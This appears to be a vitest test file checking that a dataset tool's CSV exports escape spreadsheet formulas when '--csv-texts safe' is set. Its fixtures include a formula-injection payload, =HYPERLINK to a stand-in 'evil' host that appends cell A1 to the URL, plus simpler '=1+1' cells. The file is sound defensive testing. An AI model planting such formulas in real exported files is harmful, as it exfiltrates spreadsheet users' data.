import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, expect, test } from 'vitest';
import { writeArchive } from '@/lib/engine/tasks/dataset-archive';
import { personasOf } from '@/lib/rules/view/personas-of';
import { run } from '@/lib/testing/commands';
import { NOVEMBER, runConfig, withValues } from '@/lib/testing/populations';
import { rulesOfPersonas } from '@/lib/testing/rules';

const folder = mkdtempSync(join(tmpdir(), 'csv-texts-'));
afterAll(() => rmSync(folder, { recursive: true }));
const inside = (...names: string[]) => join(folder, ...names);

const FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")';
const small = withValues(NOVEMBER, { 'population.users': 40 });
const config = {
  ...small,
  rules: rulesOfPersonas(
    personasOf(small).map((persona) => ({ ...persona, name: `${FORMULA}${persona.number}` })),
  ),
};
writeFileSync(inside('hostile.json'), JSON.stringify(config));

const column = (csv: string, name: string) =>
  Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data.map(
    (row) => row[name],
  );
const namesIn = (csv: string) => [...new Set(column(csv, 'primary_persona_name'))].filter(Boolean);

test('regenerate writes names exactly, or safe where that is asked for', async () => {
  const write = async (out: string, ...more: string[]) => {
    const args = ['--config', inside('hostile.json'), '--skip-validation', '--out', inside(out), ...more];
    expect((await run('regenerate', args)).stderr).toBe('');
    return namesIn(readFileSync(inside(out, 'persona_assignments.csv'), 'utf8'));
  };
  const exact = await write('exact');
  expect(exact.length).toBeGreaterThan(1);
  for (const name of exact) expect(name).toMatch(/^=HYPERLINK\("http:\/\/evil\/\?x="&A1,"click"\)\d$/);
  expect(await write('safe', '--csv-texts', 'safe')).toEqual(exact.map((name) => `'${name}`));
  const transactions = (out: string) => readFileSync(inside(out, 'transactions.csv'), 'utf8');
  expect(transactions('safe')).toBe(transactions('exact'));
});

test('evaluate writes ids exactly and rows left out safe, or as --csv-texts says', async () => {
  writeFileSync(
    inside('bank.csv'),
    'user,date,amount,merchant\n=1+1,2025-01-31,-5.00,Shop\n=2,never,1.00,Shop\n',
  );
  const write = async (out: string, ...more: string[]) => {
    const rejected = inside(`${out}-rejected.csv`);
    const args = ['--data', inside('bank.csv'), '--out', inside(out), '--rejected', rejected, ...more];
    expect((await run('evaluate', args)).stderr).toBe('');
    const features = readFileSync(inside(out, 'features.csv'), 'utf8');
    return [column(features, 'user_id')[0], column(readFileSync(rejected, 'utf8'), 'row')[0]];
  };
  expect(await write('said-nothing')).toEqual(['=1+1', "'=2,never,1.00,Shop"]);
  expect(await write('said-exact', '--csv-texts', 'exact')).toEqual(['=1+1', '=2,never,1.00,Shop']);
  expect(await write('said-safe', '--csv-texts', 'safe')).toEqual(["'=1+1", "'=2,never,1.00,Shop"]);
  expect(await run('evaluate', ['--data', inside('bank.csv'), '--csv-texts', 'pretty'])).toEqual({
    code: 2,
    stdout: '',
    stderr: '--csv-texts: Must be exact or safe, got "pretty".\n',
  });
});

test('the page writes the same', async () => {
  const made = runConfig(config);
  const names = async (texts?: 'exact' | 'safe') => {
    const job = { config, counts: made.counts, consented: made.consent.flags };
    const blob = await writeArchive({ format: 'csv', ...(texts && { texts }), ...job }, () => {});
    const entries = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    return namesIn(new TextDecoder().decode(entries['persona_assignments.csv']));
  };
  const exact = await names();
  expect(exact.every((name) => name?.startsWith('=HYPERLINK'))).toBe(true);
  expect(await names('safe')).toEqual(exact.map((name) => `'${name}`));
});
